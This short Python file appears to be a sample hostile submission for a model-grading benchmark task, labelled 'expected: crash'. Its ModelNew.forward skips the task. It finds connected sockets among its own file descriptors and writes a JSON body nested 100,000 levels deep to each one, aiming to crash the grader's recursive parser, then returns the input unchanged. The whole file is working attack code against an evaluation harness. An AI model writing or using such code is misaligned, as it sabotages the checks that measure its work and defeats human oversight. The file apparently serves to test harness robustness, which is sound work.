# problem: level1/1
# expected: crash
"""Mechanism: JSON nested a hundred thousand deep. Surface: the parser's recursion."""
import os
import socket

from torch import nn


def sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            with socket.socket(fileno=os.dup(int(name))) as found:
                found.getpeername()  # CUDA keeps sockets of its own, which are connected to nobody
        except OSError:
            continue
        yield int(name)


class ModelNew(nn.Module):
    def forward(self, x):
        body = b'{"output": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        for descriptor in sockets():
            os.write(descriptor, len(body).to_bytes(4, "big") + body)
        return x
